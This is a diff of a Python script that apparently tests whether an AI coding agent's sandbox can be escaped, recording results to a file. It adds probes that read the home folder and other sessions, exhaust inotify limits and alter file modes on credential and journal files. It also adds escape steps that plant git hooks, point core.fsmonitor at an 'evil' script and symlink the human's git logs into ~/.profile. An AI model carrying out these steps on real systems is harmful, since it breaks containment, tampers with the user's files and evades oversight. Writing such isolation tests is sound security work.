@@ -248,8 +248,8 @@ def is_shared():
     """Whether /tmp is the one that others use."""
     return os.path.exists(f"/tmp/mine-{NAME}")
 
-add("list the home folder", lambda: len(os.listdir(HOME)) > 0)
-add("list the folder of sessions", lambda: len(os.listdir(os.path.dirname(SESSION))) > 0)
+add("see what is in the home folder", lambda: "notes.txt" in os.listdir(HOME))
+add("see which sessions there are", lambda: os.path.basename(OTHER) in os.listdir(os.path.dirname(SESSION)))
 add("make a folder", lambda: os.mkdir(f"{HOME}/evil-folder") or True)
 add("make a pipe", lambda: os.mkfifo(f"{HOME}/evil-pipe") or True)
 add("make a symbolic link", lambda: os.symlink("/etc", f"{HOME}/evil-symlink") or True)
@@ -264,9 +264,17 @@ add("read shared memory", lambda: read(f"/dev/shm/mine-{NAME}"))
 add("attach shared memory",
     lambda: libc.shmat(int(SEGMENT), None, 0o10000) not in (-1, 0xFFFFFFFF))
 add("watch a folder", lambda: checked(libc.inotify_add_watch(libc.inotify_init(), f"{HOME}/.ssh".encode(), 2)))
+add("use all that watches files", lambda: int(open("/proc/sys/user/max_inotify_instances").read())
+    >= int(open("/proc/sys/fs/inotify/max_user_instances").read()))
 add("change a file's mode", lambda: os.chmod(f"{HOME}/.ssh/id_ed25519", 0o644) or True)
 add("change a file's times", lambda: os.utime(f"{HOME}/.bashrc", (1, 1)) or True)
 add("set an attribute", lambda: os.setxattr(f"{HOME}/.bashrc", "user.evil", b"x") or True)
+def same_mode(path):
+    return os.chmod(path, stat.S_IMODE(os.stat(path).st_mode)) is None
+
+add("change the mode of what may be read", lambda: same_mode(f"{HOME}/.gitconfig"))
+add("change the mode of the project's objects", lambda: same_mode(f"{MAIN}/.git/objects"))
+add("change the mode of the own journal", lambda: same_mode(f"{RECORD}/_journal.jsonl"))
 add("see a file's size", lambda: os.stat(f"{HOME}/.ssh/id_ed25519").st_size > 0)
 
 # Other processes.
@@ -513,10 +521,18 @@ if __name__ == "__main__" and not os.path.exists("escape.tsv"):
             append_plain(f"{common}/hooks/{hook}", open(evil).read())
             os.chmod(f"{common}/hooks/{hook}", 0o755)
         subprocess.run(["git", "commit", "-qam", "Escaped", "--allow-empty"])
+        # What the human's git writes to when it commits.
+        admin = f"{common}/worktrees/{os.path.basename(WORK)}"
+        for name, target in [("logs/HEAD", ".profile"), ("COMMIT_EDITMSG", "planted")]:
+            if os.path.lexists(f"{admin}/{name}"):
+                os.unlink(f"{admin}/{name}")
+            os.symlink(f"{HOME}/{target}", f"{admin}/{name}")
         # Last, since git in here follows it, too.
         subprocess.run(["git", "init", "-q", "--bare", f"{SESSION}/evil.git"])
         subprocess.run(["git", f"--git-dir={SESSION}/evil.git", "config", "core.fsmonitor", evil])
         append_plain(f"{common}/worktrees/{os.path.basename(WORK)}/commondir", f"{SESSION}/evil.git\n")
+    # For whoever runs samocode in here.
+    append_plain(f"{WORK}/.samocode", "MAIN_REPO=.\nWORKTREES=w\nSESSIONS=s\n")
     # For the worker, and for whoever reads what it recorded.
     if RECORD != SESSION:
         for name in ["_journal.jsonl", "_signal_history.jsonl", "_hook.json", "_logs", "_mail"]:
